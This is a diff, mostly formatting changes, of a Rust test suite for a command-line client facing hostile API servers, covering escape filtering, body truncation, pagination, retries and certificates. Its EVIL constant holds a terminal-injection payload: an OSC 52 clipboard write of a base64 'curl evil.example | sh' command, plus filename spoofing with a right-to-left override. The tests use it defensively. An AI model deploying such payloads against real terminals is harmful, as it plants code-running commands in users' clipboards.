@@ -55,7 +55,7 @@ fn code(o: &Output) -> i32 {
 fn assert_clean(what: &str, s: &str) {
     if let Some(c) = s
         .chars()
-        .find(|c| (*c != '\n' && vital_onboard::text::is_unsafe(*c)))
+        .find(|c| *c != '\n' && vital_onboard::text::is_unsafe(*c))
     {
         panic!("{what} holds U+{:04X}: {s:?}", c as u32);
     }
@@ -74,8 +74,7 @@ fn client(h: &Hostile) -> Client {
     .with_retry(fast_retry())
 }
 
-const EVIL: &str =
-    "\u{1b}[2J\u{1b}]0;pwned\u{7}\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}\u{202e}gnp.exe\u{200b}";
+const EVIL: &str = "\u{1b}[2J\u{1b}]0;pwned\u{7}\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}\u{202e}gnp.exe\u{200b}";
 
 #[tokio::test(flavor = "multi_thread")]
 async fn escapes_in_error_bodies_never_reach_the_terminal() {
@@ -91,7 +90,10 @@ async fn escapes_in_error_bodies_never_reach_the_terminal() {
                 body: html.clone().into_bytes(),
             }
         } else {
-            Reply::json(422, serde_json::json!({"detail": [{"loc": ["body", EVIL], "msg": EVIL}]}).to_string())
+            Reply::json(
+                422,
+                serde_json::json!({"detail": [{"loc": ["body", EVIL], "msg": EVIL}]}).to_string(),
+            )
         }
     })
     .await;
@@ -166,7 +168,11 @@ async fn huge_bodies_are_not_read_whole_and_not_echoed() {
     let o = run(cmd(&h.url()), &["users", "create", "p1"]).await;
     assert_eq!(code(&o), 3);
     let err = text(&o.stderr);
-    assert!(err.len() < 1000, "a 10 MB detail is cut: {} bytes", err.len());
+    assert!(
+        err.len() < 1000,
+        "a 10 MB detail is cut: {} bytes",
+        err.len()
+    );
     assert!(err.contains('…'), "the cut is marked: {err}");
 }
 
@@ -197,7 +203,14 @@ async fn a_link_that_is_not_an_https_url_is_refused_with_exit_4() {
         let png = dir.path().join("code.png");
         let o = run(
             cmd(&h.url()),
-            &["link", "--user", "p1", "--qr", "--qr-png", png.to_str().unwrap()],
+            &[
+                "link",
+                "--user",
+                "p1",
+                "--qr",
+                "--qr-png",
+                png.to_str().unwrap(),
+            ],
         )
         .await;
         assert_eq!(code(&o), 4, "{bad:?}: {}", text(&o.stderr));
@@ -216,7 +229,11 @@ async fn link_qr_with_a_link_too_long_for_a_code_still_prints_the_url() {
     let o = run(cmd(&h.url()), &["link", "--user", "p1", "--qr"]).await;
     assert_eq!(code(&o), 0, "{}", text(&o.stderr));
     assert_eq!(text(&o.stdout).trim(), url, "the minted link is not lost");
-    assert!(text(&o.stderr).contains("does not fit"), "{}", text(&o.stderr));
+    assert!(
+        text(&o.stderr).contains("does not fit"),
+        "{}",
+        text(&o.stderr)
+    );
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -229,9 +246,21 @@ async fn pages_that_never_advance_stop_at_once() {
     let h = Hostile::start(move |_: &Request| Reply::json(200, page.clone())).await;
     let o = run(cmd(&h.url()), &["users"]).await;
     assert_eq!(code(&o), 4, "{}", text(&o.stderr));
-    assert!(text(&o.stderr).contains("same 500 users"), "{}", text(&o.stderr));
-    assert_eq!(h.requests().len(), 2, "the second page repeats the first: stop");
-    assert_eq!(text(&o.stdout).lines().count(), 501, "header and the first page");
+    assert!(
+        text(&o.stderr).contains("same 500 users"),
+        "{}",
+        text(&o.stderr)
+    );
+    assert_eq!(
+        h.requests().len(),
+        2,
+        "the second page repeats the first: stop"
+    );
+    assert_eq!(
+        text(&o.stdout).lines().count(),
+        501,
+        "header and the first page"
+    );
 
     let h = Hostile::start(|_: &Request| {
         Reply::json(200, r#"{"users":[],"total":-5,"offset":0,"limit":500}"#)
@@ -241,7 +270,10 @@ async fn pages_that_never_advance_stop_at_once() {
     assert_eq!(code(&o), 4);
     let err = text(&o.stderr);
     assert!(err.contains("total = -5, not a count"), "{err}");
-    assert!(!err.contains("invalid value"), "not a parse error text: {err}");
+    assert!(
+        !err.contains("invalid value"),
+        "not a parse error text: {err}"
+    );
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -263,9 +295,25 @@ async fn a_redirect_is_reported_as_such_with_exit_4() {
 async fn a_dropped_connection_is_not_called_unreachable() {
     let h = Hostile::start(|_: &Request| Reply::Drop).await;
     let e = client(&h).create_user("p1").await.unwrap_err();
-    assert!(matches!(e, ApiError::Dropped { may_have_run: true, .. }), "{e:?}");
-    assert_eq!(h.requests().len(), 1, "a POST that may have run is not retried");
-    assert!(e.to_string().contains("dropped after the request was sent"), "{e}");
+    assert!(
+        matches!(
+            e,
+            ApiError::Dropped {
+                may_have_run: true,
+                ..
+            }
+        ),
+        "{e:?}"
+    );
+    assert_eq!(
+        h.requests().len(),
+        1,
+        "a POST that may have run is not retried"
+    );
+    assert!(
+        e.to_string().contains("dropped after the request was sent"),
+        "{e}"
+    );
     assert!(e.to_string().contains("not retried"), "{e}");
     assert!(!e.to_string().contains("could not reach"), "{e}");
     assert_eq!(e.exit_code(), 4);
@@ -316,16 +364,21 @@ async fn connect_timeouts_are_retried_and_reported_with_the_real_total() {
     let addr = listener.local_addr().unwrap();
     let mut fillers = Vec::new();
     for _ in 0..4 {
-        if let Ok(Ok(s)) =
-            tokio::time::timeout(Duration::from_millis(300), tokio::net::TcpStream::connect(addr))
-                .await
+        if let Ok(Ok(s)) = tokio::time::timeout(
+            Duration::from_millis(300),
+            tokio::net::TcpStream::connect(addr),
+        )
+        .await
         {
             fillers.push(s);
         }
     }
-    let hangs = tokio::time::timeout(Duration::from_millis(500), tokio::net::TcpStream::connect(addr))
-        .await
-        .is_err();
+    let hangs = tokio::time::timeout(
+        Duration::from_millis(500),
+        tokio::net::TcpStream::connect(addr),
+    )
+    .await
+    .is_err();
     if !hangs {
         eprintln!("this kernel accepts past a full backlog: connect-timeout test did not run");
         return;
@@ -340,12 +393,18 @@ async fn connect_timeouts_are_retried_and_reported_with_the_real_total() {
     let started = Instant::now();
     let e = c.providers().await.unwrap_err();
     let took = started.elapsed();
-    assert!(matches!(e, ApiError::Unreachable { .. }), "retried as a connect failure, whatever --timeout: {e:?}");
+    assert!(
+        matches!(e, ApiError::Unreachable { .. }),
+        "retried as a connect failure, whatever --timeout: {e:?}"
+    );
     let msg = e.to_string();
     assert!(msg.contains("timed out after 0.8 s"), "{msg}");
     assert!(msg.contains("3 attempts over"), "{msg}");
     assert!(!msg.contains("within 1s"), "{msg}");
-    assert!(took >= Duration::from_millis(2400), "three attempts: {took:?}");
+    assert!(
+        took >= Duration::from_millis(2400),
+        "three attempts: {took:?}"
+    );
     drop(listener);
 }
 
@@ -357,7 +416,9 @@ async fn an_untrusted_certificate_is_refused_and_not_retried() {
         include_bytes!("fixtures/self-signed.cert.der").to_vec(),
     );
     let key = rustls::pki_types::PrivateKeyDer::Pkcs8(
-        include_bytes!("fixtures/self-signed.key.der").to_vec().into(),
+        include_bytes!("fixtures/self-signed.key.der")
+            .to_vec()
+            .into(),
     );
     let config = std::sync::Arc::new(
         rustls::ServerConfig::builder()
@@ -385,7 +446,14 @@ async fn an_untrusted_certificate_is_refused_and_not_retried() {
     let o = run(cmd(&base), &["providers"]).await;
     assert_eq!(code(&o), 4, "{}", text(&o.stderr));
     let err = text(&o.stderr);
-    assert!(err.contains("certificate") && err.contains("not trusted"), "{err}");
+    assert!(
+        err.contains("certificate") && err.contains("not trusted"),
+        "{err}"
+    );
     assert!(err.contains("not retried"), "{err}");
-    assert_eq!(connections.load(Ordering::SeqCst), 1, "tried once, not three times");
+    assert_eq!(
+        connections.load(Ordering::SeqCst),
+        1,
+        "tried once, not three times"
+    );
 }
